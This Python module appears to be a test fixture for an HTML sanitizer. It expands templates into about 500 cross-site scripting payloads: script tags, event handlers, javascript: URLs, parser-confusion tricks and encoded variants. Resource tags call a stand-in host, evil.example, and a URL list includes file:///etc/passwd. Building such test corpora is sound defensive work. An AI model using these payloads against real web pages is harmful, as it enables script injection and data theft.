"""About 500 attempts to run a script or to ask another host for something, each known from life, in many spellings."""

import re
from collections.abc import Iterator

EVIL = "evil.example"
HIT = "__hit"  # what a script that runs calls, with the number of its payload

_SCRIPTS = [
    "<script>{js}</script>", "<script src=//{evil}/{n}.js></script>", "<script type=module>{js}</script>",
    "<svg><script>{js}</script></svg>", "<svg onload={js}>", "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:{js} /><text>x</text></svg>", '<svg><a xlink:href="javascript:{js}"><text y=9>x</text></a></svg>',
    "<img src=x onerror={js}>", "<img src=/favicon.ico onload={js}>", "<image src=x onerror={js}>", "<video><source onerror={js}></video>",
    "<video src=x onerror={js}></video>", "<audio src=x onerror={js}></audio>", "<body onload={js}>", "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>", "<p tabindex=1 onfocus={js} onmouseover={js}>x</p>", "<marquee onstart={js}>x</marquee>",
    '<a href="javascript:{js}">x</a>', '<a href="java&#10;script:{js}">x</a>', '<a href=" &#14; javascript:{js}">x</a>',
    '<a href="JaVaScRiPt&colon;{js}">x</a>', '<a href="data:text/html,<script>{js}</script>">x</a>', '<a href="vbscript:{js}">x</a>',
    '<a href="https://ok.example/" onclick={js} onmouseover={js}>x</a>', "<form action=javascript:{js}><button>x</button></form>",
    "<button formaction=javascript:{js}>x</button>", '<iframe src="javascript:parent.{js}"></iframe>',
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>', '<object data="javascript:{js}"></object>',
    '<p style="animation-name:x" onanimationstart={js}>x</p>', "<div onbeforematch={js} hidden=until-found>x</div>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror={js}>">', '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<p title="</p><img src=x onerror={js}>">', "<!--><img src=x onerror={js}>-->", "<![CDATA[<img src=x onerror={js}>]]>",
    "<template><img src=x onerror={js}></template>", "<<script>{js}//<</script>", "<a><b><img src=x onerror={js}",
]  # fmt: skip
_LEAKS = [
    "<img src=//{evil}/{n}>", "<img srcset='//{evil}/{n} 2x'>", "<iframe src=//{evil}/{n}></iframe>", "<object data=//{evil}/{n}></object>",
    "<embed src=//{evil}/{n}>", "<link rel=stylesheet href=//{evil}/{n}.css>", "<link rel=prefetch href=//{evil}/{n}>",
    '<style>@import "//{evil}/{n}.css"</style>', '<p style="background:url(//{evil}/{n})">x</p>', "<base href=//{evil}/>",
    "<meta http-equiv=refresh content='0;url=//{evil}/{n}'>", "<video poster=//{evil}/{n}></video>", "<audio src=//{evil}/{n} autoplay></audio>",
    "<input type=image src=//{evil}/{n}>", "<svg><image href=//{evil}/{n} /></svg>", "<svg><use href=//{evil}/{n}#x></use></svg>",
    "<body background=//{evil}/{n}>", "<table background=//{evil}/{n}><tr><td>x</table>",
]  # fmt: skip
_OUT_OF_PLACE = [
    '" onmouseover="{js}" x="', "' autofocus onfocus='{js}' x='", '" src="//{evil}/{n}" x="', "]]><script>{js}</script>",
    "</script><script>{js}</script>", "</title><script>{js}</script>", "</textarea><script>{js}</script>", "--><script>{js}</script>",
    "javascript:{js}", "{{{{ 7|add:{n} }}}}{{% debug %}}", "${{{js}}}", "`);{js};//", "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "%3Cscript%3E{js}%3C/script%3E", "+ADw-script+AD4-{js}+ADw-/script+AD4-", "＜script＞{js}＜/script＞",
]  # fmt: skip


def _spellings(payload: str) -> Iterator[str]:
    yield payload
    yield f'">{payload}'
    yield f"x'/>{payload}"
    yield payload.replace("<", "&lt;").replace(">", "&gt;")
    yield re.sub(r"<(/?\w+)", lambda tag: tag[0].upper(), payload)  # names of functions keep their case
    yield payload.replace(" ", "/", 1)
    yield payload.replace(" ", "\n\t")
    yield f"<p>{payload}</p><ul><li>{payload}"


def payloads() -> list[str]:
    """Return every payload once; the nth calls HIT with n, or asks EVIL for something with n in its name."""
    spelt = [spelling for pattern in _SCRIPTS + _LEAKS + _OUT_OF_PLACE for spelling in _spellings(_filled(pattern))]
    return [spelling.replace("NUMBER", str(number)) for number, spelling in enumerate(dict.fromkeys(spelt))]


def _filled(pattern: str) -> str:
    return pattern.format(js=f"{HIT}(NUMBER)", n="NUMBER", evil=EVIL)


URLS = [
    "javascript:__hit(0)", "JaVaScRiPt:__hit(0)", " javascript:__hit(0)", "java\nscript:__hit(0)", "\x01javascript:__hit(0)", "javascript&colon;__hit(0)",
    "data:text/html,<script>__hit(0)</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "file:///etc/passwd", "blob:x", "view-source:x",
    "//evil.example", "/\\evil.example", "https:evil.example", "https:///evil.example", "http://", "javascript://%0a__hit(0)", "feed:javascript:x",
    "filesystem:http://evil.example/", "ftp://evil.example/x",
]  # fmt: skip
